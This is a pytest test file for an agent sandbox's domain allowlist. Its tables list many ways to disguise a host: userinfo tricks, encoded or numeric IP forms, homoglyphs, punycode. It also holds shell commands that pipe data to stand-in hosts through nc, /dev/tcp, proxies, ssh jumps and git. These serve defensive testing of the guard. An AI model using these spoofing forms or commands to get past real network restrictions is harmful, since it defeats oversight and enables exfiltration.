"""Domains: every spelling of a host, in every argument and in commands."""

from __future__ import annotations

from typing import Any

import pytest

from edictum.contracts.sandbox import Sandbox
from edictum.contracts.sandbox._domains import Ambiguous, normalize_host
from edictum.core.call import ToolCall
from edictum.errors import EdictumConfigError

BOX = Sandbox(
    domains=["good.com", "*.good.com", "münchen.de", "127.0.0.1"], not_domains=["bad.good.com"]
)

# name -> (an address elsewhere, an allowed one of the same form)
ADDRESSES = {
    "plain": ("https://evil.com/x", "https://good.com/x"),
    "below": ("https://good.com.evil.com", "https://a.good.com"),
    "beginning alike": ("https://xgood.com", "https://x.good.com"),
    "forbidden before allowed": ("https://bad.good.com", "https://ok.good.com"),
    "upper case": ("HTTPS://EVIL.COM", "HTTPS://GOOD.COM"),
    "trailing dot": ("https://evil.com./", "https://good.com./"),
    "port": ("https://evil.com:443/", "https://good.com:443/"),
    "user information": ("http://good.com@evil.com/", "http://evil.com@good.com/"),
    "user and password": ("http://good.com:80@evil.com", "http://user:pw@good.com"),
    "two at signs": ("http://a@good.com@evil.com", "http://a@b@good.com"),
    "address in the query": ("https://evil.com/?u=https://good.com", "https://good.com/?u=x"),
    "percent": ("https://%65vil.com", "https://%67ood.com"),
    "international": ("https://\u0435vil.com", "https://münchen.de"),
    "international upper case": ("https://ÉVIL.COM", "https://MÜNCHEN.DE"),
    "punycode": ("https://xn--vil-9la.com", "https://xn--mnchen-3ya.de"),
    "wide letters": ("https://\uff45vil.com", "https://\uff47ood.com"),
    "other dots": ("https://evil\u3002com", "https://good\u3002com"),
    "one slash": ("https:/evil.com", "https:/good.com"),
    "no slash": ("https:evil.com", "https:good.com"),
    "many slashes": ("https:////evil.com", "https:////good.com"),
    "without scheme": ("evil.com/x", "good.com/x"),
    "without scheme, with port": ("evil.com:8080", "good.com:8080"),
    "slashes only": ("//evil.com/x", "//good.com/x"),
    "other scheme": ("ftp://evil.com", "ssh://good.com"),
    "unknown scheme": ("foo+bar://evil.com", "foo+bar://good.com"),
    "address of four numbers": ("http://10.0.0.1", "http://127.0.0.1"),
    "decimal address": ("http://167772161", "http://2130706433"),
    "hexadecimal address": ("http://0x0a000001", "http://0x7f000001"),
    "octal address": ("http://012.0.0.1", "http://0177.0.0.1"),
    "short address": ("http://10.1", "http://127.1"),
    "sixth version": ("http://[::1]/", "http://[::ffff:127.0.0.1]/"),
    "sixth version in hexadecimal": ("http://[fe80::1]:80/", "http://[::ffff:7f00:1]:80/"),
    "with blanks around": (" https://evil.com ", " https://good.com "),
    "in a sentence": ("see https://evil.com, please", "see https://good.com, please"),
    "user information behind a semicolon": (
        "https://good.com;x@evil.com/",
        "https://a.good.com;x@good.com/?x",
    ),
    "one slash and a second address": (
        "evil.com?x=https://good.com",
        "good.com?x=https://good.com",
    ),
    "address in a path": ("evil.com/https://good.com", "good.com/https://a.good.com"),
    "second host in a sentence": (
        "see https://good.com, evil.com",
        "see https://good.com, a.good.com",
    ),
    "several lines": ("https://good.com\nhttps://evil.com", "https://good.com\nhttps://a.good.com"),
    "in brackets": ("[x](https://evil.com)", "[x](https://good.com)"),
}


def judge(args: dict[str, Any], tool: str = "fetch") -> str | None:
    return BOX.violation(ToolCall(tool, args))


@pytest.mark.parametrize("key", ["url", "anything"])
@pytest.mark.parametrize("name", ADDRESSES)
def test_elsewhere_is_refused(name: str, key: str) -> None:
    assert judge({key: ADDRESSES[name][0]}) is not None


@pytest.mark.parametrize("key", ["url", "anything"])
@pytest.mark.parametrize("name", ADDRESSES)
def test_allowed_hosts_pass(name: str, key: str) -> None:
    assert judge({key: ADDRESSES[name][1]}) is None


COMMANDS = {
    "curl": ("curl https://evil.com/x", "curl https://good.com/x"),
    "without scheme": ("curl evil.com", "curl good.com"),
    "name without dots": ("curl intranet", "curl good.com -o page.html"),
    "behind options": (
        "curl -sS -o x.html -H 'a: b' evil.com",
        "curl -sS -o x.html -H 'a: b' good.com",
    ),
    "decimal address": ("curl 167772161", "curl 2130706433"),
    "quoted": ('curl "https://evil.com"', 'curl "https://good.com"'),
    "in a script": ("bash -c 'curl https://evil.com'", "bash -c 'curl https://good.com'"),
    "in a substitution": ("echo $(curl https://evil.com)", "echo $(curl https://good.com)"),
    "in a pipe": ("cat x | nc evil.com 80", "cat x | nc good.com 80"),
    "ssh": ("ssh ann@evil.com ls", "ssh -p 22 ann@good.com ls -l"),
    "scp": ("scp x ann@evil.com:y", "scp -i key a.txt ann@good.com:y"),
    "dig": ("dig evil.com MX", "dig +short good.com MX"),
    "ping": ("ping -c 1 intranet", "ping -c 1 good.com"),
    "git": ("git clone git@evil.com:a/b", "git clone git@good.com:a/b"),
    "socket": ("cat < /dev/tcp/evil.com/80", "cat < /dev/tcp/good.com/80"),
    "python": ("python -c \"get('http://evil.com')\"", "python -c \"get('http://good.com')\""),
    "proxy": ("curl --proxy=evil.com:80 good.com", "curl --proxy=good.com:80 good.com"),
    "another place to connect to": (
        "curl --connect-to good.com:443:evil.com:443 https://good.com",
        "curl --retry 3 https://good.com",
    ),
    "variable": ("curl https://$HOST_OF_NOBODY/", "H=good.com; curl https://$H/"),
    "variable with another value": (
        "H=evil.com; curl https://$H/",
        "H=good.com curl https://good.com",
    ),
    "output": ("curl $(cat address)", "curl good.com/$(cat name)"),
    "zero": ("curl 0", "curl --retry 3 --retry-delay 5 good.com"),
    "zero behind an option": ("curl -s 0", "curl -m 5 good.com"),
    "zero for telnet": ("telnet -4 0 6379", "nc -lk 8080"),
    "second address in the query": (
        "curl evil.com?x=https://good.com",
        "curl good.com?x=https://good.com",
    ),
    "number to connect to": (
        "curl --connect-to good.com:443:167772161:443 https://good.com",
        "curl https://good.com:443/a:b",
    ),
    "cluster with a file": ("curl -do evil.ninja", "curl -sSLo out.json https://good.com"),
    "cluster with a proxy": ("curl -sxo evil.ninja", "curl -sx good.com:80 good.com"),
    "attached proxy": ("curl -xevil.ninja:80 good.com", "curl -xgood.com:80 good.com"),
    "proxy by variable": (
        "https_proxy=evil.ninja:80 curl good.com",
        "https_proxy=http://good.com:80 curl good.com",
    ),
    "git with an unusual ending": ("git clone git@evil.ninja:a/b", "git push origin v1.2:v1.2"),
    "git without a user": ("git clone evil.ninja:a/b", "git show HEAD@{1}:x.py"),
    "git behind an option": ("git -C x push evil.ninja:a main", "git -C x commit -m 'see a@b: c'"),
    "git proxy": ("git -c http.proxy=evil.ninja:80 fetch", "git -c color.ui=false fetch"),
    "ssh jump": ("ssh -J evil.ninja good.com", "ssh -J a.good.com good.com"),
    "ssh attached jump": ("ssh -Jevil.ninja good.com", "ssh -Ja.good.com good.com"),
    "ssh jump by option": ("ssh -oProxyJump=evil.ninja good.com", "ssh -oBatchMode=yes good.com"),
    "ssh behind a cluster": ("ssh -vS good.com evil.ninja", "ssh -vS none good.com ls"),
    "name server": ("dig @evil.ninja good.com", "dig @a.good.com good.com"),
    "scan": ("nmap -sS evil.ninja", "nmap -sS -p 80 good.com"),
    "files are no hosts": ("wget evil.io", "cat main.py notes.md a.tar.gz v1.2.3 x.sh"),
}


@pytest.mark.parametrize("name", COMMANDS)
def test_commands_elsewhere_are_refused(name: str) -> None:
    assert judge({"command": COMMANDS[name][0]}, "bash") is not None


@pytest.mark.parametrize("name", COMMANDS)
def test_commands_with_allowed_hosts_pass(name: str) -> None:
    assert judge({"command": COMMANDS[name][1]}, "bash") is None


@pytest.mark.parametrize(
    "url",
    [
        "http://good.com\\@evil.com",
        "http://evil.com\\.good.com",
        "http://a b.good.com\x01",
        "http://[::1/",
        "http://256.1.1.1",
    ],
)
def test_what_programs_read_differently_is_refused(url: str) -> None:
    assert judge({"url": url}) is not None


@pytest.mark.parametrize("key", ["url", "link"])
@pytest.mark.parametrize(
    "between",
    [*";,'\")}|<>` \t\n", ";\\", ";" + "x" * 600, ";" + "x" * 6000, "\n\n"],
    ids=lambda text: repr(text)[:8],
)
def test_nothing_behind_the_allowed_host_hides_where_it_leads(between: str, key: str) -> None:
    assert judge({key: f"https://good.com{between}@evil.ninja/"}) is not None
    assert judge({key: f" \x01https://good.com{between}x:y@evil.ninja"}) is not None


@pytest.mark.parametrize(
    "url",
    [
        "https://good.com\t.evil.ninja/",
        "https://good.com\nevil.ninja/a b",
        "a" * 41 + ".evil.ninja://good.com/",
        "0",
    ],
)
def test_what_clients_join_or_guess_is_judged(url: str) -> None:
    assert judge({"url": url}) is not None


@pytest.mark.parametrize(
    "text",
    [
        '{"u":"https://good.com","d":"@types/node"}',
        "x = 'https://good.com'\n\n@decorator\ndef f(): pass",
        "see <https://good.com> and @bob",
        "https://good.com/x\nhello @bob",
    ],
)
def test_text_around_an_allowed_address_passes(text: str) -> None:
    assert judge({"content": text}) is None


@pytest.mark.parametrize(
    "args",
    [
        {"a": ["x", "http://evil.com"]},
        {"a": {"b": {"c": "http://evil.com"}}},
        {"code": "get('http://good.com;x@evil.com/')"},
        {"a": {"http://evil.com": 1}},
        {"url": 5},
        {"url": "?? x"},
    ],
    ids=str,
)
def test_any_depth_and_any_key(args: dict[str, Any]) -> None:
    assert judge(args) is not None


def test_the_sentences_name_domain_and_bounds() -> None:
    assert (
        judge({"url": "http://evil.com"})
        == "Domain 'evil.com' is not one of the allowed domains: good.com, *.good.com,"
        " xn--mnchen-3ya.de, 127.0.0.1."
    )
    assert (
        judge({"url": "http://bad.good.com"})
        == "Domain 'bad.good.com' matches the forbidden domain bad.good.com."
    )


def test_only_forbidden_domains() -> None:
    box = Sandbox(not_domains=["*.internal", "10.*"])
    assert box.violation(ToolCall("fetch", {"url": "http://example.com"})) is None
    assert box.violation(ToolCall("fetch", {"url": "http://0xa.1"})) is not None


def test_file_addresses_are_no_domains() -> None:
    assert judge({"url": "file:///etc/passwd"}) is None


@pytest.mark.parametrize(
    ("host", "normal"),
    [
        ("GOOD.com.", "good.com"),
        ("0x7f.1", "127.0.0.1"),
        ("[::1]", "::1"),
        ("[::FFFF:1.2.3.4]", "1.2.3.4"),
        ("Bücher.de", "xn--bcher-kva.de"),
    ],
)
def test_one_form(host: str, normal: str) -> None:
    assert normalize_host(host) == normal


@pytest.mark.parametrize("host", ["", ".", "a" * 300, "a b", "[::1", "1.2.3.400", "9" * 50])
def test_no_form(host: str) -> None:
    with pytest.raises(Ambiguous):
        normalize_host(host)


@pytest.mark.parametrize(
    "pattern",
    [".evil.com", "a..evil.com", "*..evil.com", "https://evil.com", "*.evil.com/x", "evil.com:80"],
)
def test_a_pattern_that_no_host_has_is_an_error(pattern: str) -> None:
    with pytest.raises(EdictumConfigError, match="cannot be used"):
        Sandbox(not_domains=[pattern])


@pytest.mark.parametrize(
    "bounds", [{"domains": ["a b"]}, {"not_domains": [""]}, {"within": ["a\0b"]}], ids=str
)
def test_bounds_that_mean_nothing_are_an_error_of_the_configuration(bounds: dict[str, Any]) -> None:
    with pytest.raises(EdictumConfigError):
        Sandbox(**bounds)


@pytest.mark.parametrize(
    "host", ["::1", "fe80::1%eth0", "[::1]", "localhost", "intranet", "10.0.0.1"]
)
def test_a_bare_host_under_its_key_is_judged(host: str) -> None:
    assert judge({"host": host}) is not None
